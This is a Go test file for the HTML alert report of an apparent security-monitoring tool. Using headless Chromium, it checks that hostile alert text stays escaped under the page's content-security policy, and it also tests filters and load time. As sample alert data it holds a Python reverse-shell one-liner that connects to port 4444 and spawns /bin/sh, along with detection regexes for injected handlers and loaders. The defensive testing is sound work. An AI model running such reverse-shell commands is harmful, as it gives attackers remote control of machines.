package report

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/auditpy/auditpy/internal/alert"
	"github.com/auditpy/auditpy/rules/rule"
)

// browser is a Chromium: .ci/browser installs one and runs these tests.
func browser(t *testing.T) string {
	t.Helper()
	name := os.Getenv("AUDITPY_CHROMIUM")
	if name == "" {
		t.Skip("AUDITPY_CHROMIUM names no Chromium: .ci/browser runs this")
	}
	return name
}

// dump is the document after its scripts ran, in a window of that height.
func dump(t *testing.T, page []byte, height int) string {
	t.Helper()
	dir := t.TempDir()
	name := filepath.Join(dir, "report.html")
	if err := os.WriteFile(name, page, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	c := exec.CommandContext(ctx, browser(t), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--user-data-dir="+filepath.Join(dir, "profile"),
		"--window-size=1400,"+strconv.Itoa(height), "--virtual-time-budget=3000", "--dump-dom", "file://"+name)
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // it starts many
	c.Cancel = func() error { return syscall.Kill(-c.Process.Pid, syscall.SIGKILL) }
	c.WaitDelay = 5 * time.Second
	out, err := c.Output()
	if err != nil {
		t.Fatalf("%v: %v", c.Args, err)
	}
	return string(out)
}

func hostilePage(t *testing.T) []byte {
	t.Helper()
	p := new(Page)
	for i, text := range hostile {
		p.Add(sample(i, text))
	}
	var b bytes.Buffer
	if err := p.Write(&b, About{Version: hostile[1], Sources: hostile, Problems: hostile}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var (
	policyMeta = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)
	shownRow   = regexp.MustCompile(`(?s)<div class="row l3"[^>]*>.*?<code>(.*?)</code>`)
	handler    = regexp.MustCompile(`<[a-zA-Z][^<>]*\son[a-z]+\s*=`)
	foreign    = regexp.MustCompile(`<(img|iframe|object|embed|base|link|form|video|a|math|input|body|details|template|animate)\b[^>]*(src|href|data|onerror|onload|attacker)`)
)

// TestHostileText opens a page full of text that wants to be run, with its policy and without: either alone has to hold. All texts are
// shown as they are.
func TestHostileText(t *testing.T) {
	if len(hostile) < 50 {
		t.Fatalf("%d hostile texts", len(hostile))
	}
	page := hostilePage(t)
	for name, page := range map[string][]byte{"policy": page, "no policy": policyMeta.ReplaceAll(page, nil)} {
		t.Run(name, func(t *testing.T) {
			dom := dump(t, page, 60*len(hostile)+1200)
			harmlessDocument(t, dom)
			shown := shownRow.FindAllStringSubmatch(dom, -1)
			if len(shown) != len(hostile) {
				t.Fatalf("%d rows shown, want %d", len(shown), len(hostile))
			}
			for i, text := range hostile {
				want := alert.What(sample(i, text).Event)
				if node := alert.Escape(text); node != "" {
					want = node + "  " + want
				}
				if got := html.UnescapeString(shown[i][1]); got != want {
					t.Errorf("row %d shows %q, want %q", i, got, want)
				}
			}
		})
	}
}

func harmlessDocument(t *testing.T, dom string) {
	t.Helper()
	if !strings.Contains(dom, fmt.Sprintf(`data-ready="%d"`, len(hostile))) {
		t.Errorf("the page's own script did not run to its end: %.300s", dom)
	}
	if strings.Contains(dom, "data-pwned") || !strings.Contains(dom, "<title>auditpy report</title>") {
		t.Error("a text was run")
	}
	data := regexp.MustCompile(`(?s)<script.*?</script>`).ReplaceAllString(dom, "")
	if n := strings.Count(dom, "<script") - strings.Count(data, "<script"); n != 2 || strings.Contains(data, "<script") {
		t.Errorf("%d script elements, want 2", n)
	}
	if m := handler.FindString(data); m != "" {
		t.Errorf("an element with a handler: %q", m)
	}
	if m := foreign.FindString(data); m != "" {
		t.Errorf("an element that loads something: %q", m)
	}
}

// TestBrowserNotices shows that TestHostileText can fail: the same page with data that is not escaped is seen to be run.
func TestBrowserNotices(t *testing.T) {
	page := policyMeta.ReplaceAll(hostilePage(t), nil)
	page = bytes.ReplaceAll(bytes.ReplaceAll(page, []byte(`\u003c`), []byte("<")), []byte(`\u003e`), []byte(">"))
	if dom := dump(t, page, 900); !strings.Contains(dom, "data-pwned") {
		t.Error("a script in a page that does not escape was not seen")
	}
	// And the policy alone holds it back.
	page = hostilePage(t)
	page = bytes.ReplaceAll(bytes.ReplaceAll(page, []byte(`\u003c`), []byte("<")), []byte(`\u003e`), []byte(">"))
	if dom := dump(t, page, 900); strings.Contains(dom, "data-pwned") {
		t.Error("the policy lets a foreign script run")
	}
}

// timing is put behind the page's script, without the policy: it does what a person does, and notes how long the page took.
const timing = `<script>
const took = (what, f) => { const t = performance.now(); f(); document.body.offsetHeight; document.documentElement.dataset[what] = Math.round(performance.now() - t); };
document.documentElement.dataset.load = Math.round(performance.now());
took("alerts", () => document.getElementById("by-alert").click());
took("level", () => document.querySelector("#levels button").click());
took("back", () => document.querySelector("#levels button").click());
took("scroll", () => { const l = document.getElementById("list"); l.scrollTop = l.scrollHeight / 2; l.dispatchEvent(new Event("scroll")); });
document.documentElement.dataset.drawn = document.querySelectorAll(".row").length;
</script>`

// TestManyAlerts opens a page with 10,000 alerts.
func TestManyAlerts(t *testing.T) {
	p := new(Page)
	for i := range 10_000 {
		a := sample(i, fmt.Sprintf("import socket,os,pty; s=socket.create_connection(('10.0.%d.%d', 4444)); pty.spawn('/bin/sh')", i/256, i%256))
		a.Event.ID.Node, a.Rules[1].ID = "web-"+strconv.Itoa(i%20), "second"
		a.Rules[1] = meta
		p.Add(a)
	}
	var b bytes.Buffer
	if err := p.Write(&b, About{}); err != nil {
		t.Fatal(err)
	}
	page := append(policyMeta.ReplaceAll(b.Bytes(), nil), timing...)
	dom := dump(t, page, 900)
	for what, most := range map[string]int{"load": 10_000, "alerts": 2000, "level": 2000, "back": 2000, "scroll": 500, "drawn": 40} {
		m := regexp.MustCompile(`data-` + what + `="(\d+)"`).FindStringSubmatch(dom)
		if m == nil {
			t.Fatalf("no %s in the document: %.300s", what, dom)
		}
		n, _ := strconv.Atoi(m[1])
		t.Logf("%-6s %d", what, n)
		if n > most {
			t.Errorf("%s: %d, want at most %d", what, n, most)
		}
	}
	t.Logf("%d bytes", b.Len())
}

// filtering is put behind the page's script: it notes how many rows each filter leaves.
const filtering = `<script>
const $i = (id) => document.getElementById(id), shown = () => $i("count").textContent;
const note = (what) => { document.documentElement.dataset[what] = shown(); };
const change = (id, label) => { const s = $i(id); s.value = [...s.options].find((o) => o.textContent.startsWith(label)).value; s.dispatchEvent(new Event("change")); };
note("all");
change("host", "web-3"); note("host"); $i("reset").click();
change("rule", "Second"); note("rule"); $i("reset").click();
document.querySelector("#levels .l2").click(); note("level"); $i("reset").click();
$i("by-alert").click(); note("alerts");
$i("list").focus();
$i("list").dispatchEvent(new KeyboardEvent("keydown", { key: "End" }));
document.documentElement.dataset.last = document.querySelector("#detail h2").textContent + ", " + document.querySelector(".row[aria-selected=true] code").textContent;
$i("text").value = "NEEDLE web-7"; $i("text").dispatchEvent(new Event("input"));
setTimeout(() => { note("text"); $i("text").value = "nowhere"; $i("text").dispatchEvent(new Event("input")); }, 500);
setTimeout(() => { note("none"); document.documentElement.dataset.empty = document.querySelector("#list .empty").textContent; }, 1000);
</script>`

// TestFilters uses each filter, on a page that had no room for all its alerts.
func TestFilters(t *testing.T) {
	p := &Page{kept: kept{alerts: 40, bytes: MaxBytes}}
	second := *meta
	second.Title = "Second"
	for i := range 100 {
		a := sample(i, fmt.Sprintf("argument %d", i))
		a.Event.ID.Node, a.Rules = "web-"+strconv.Itoa(i%10), []*rule.Meta{meta}
		a.Incident.ID = "incident" + strconv.Itoa(i/2)
		switch {
		case i >= 50:
			a.Level = rule.Low
		case i >= 30:
			a.Level, a.Rules = rule.Medium, []*rule.Meta{&second}
		}
		if i == 17 {
			a.Event.Exec.Args = []string{"needle"}
		}
		p.Add(a)
	}
	var b bytes.Buffer
	if err := p.Write(&b, About{}); err != nil {
		t.Fatal(err)
	}
	dom := dump(t, append(policyMeta.ReplaceAll(b.Bytes(), nil), filtering...), 900)
	for what, want := range map[string]string{
		"all": "20 incidents", "host": "4 of 20 incidents", "rule": "5 of 20 incidents", "level": "15 of 20 incidents", "alerts": "40 alerts",
		"text": "1 of 40 alerts", "none": "0 of 40 alerts", "empty": "Nothing passes these filters.", "last": "Second, web-9  python3 -c 'argument 39'",
	} {
		if !strings.Contains(dom, fmt.Sprintf(`data-%s="%s"`, what, want)) {
			t.Errorf("%s: want %q in %.600s", what, want, dom)
		}
	}
	if want := "room for 40 alerts: left out are 10 of level medium, 50 of level low"; !strings.Contains(dom, want) {
		t.Errorf("the page does not say %q", want)
	}
}
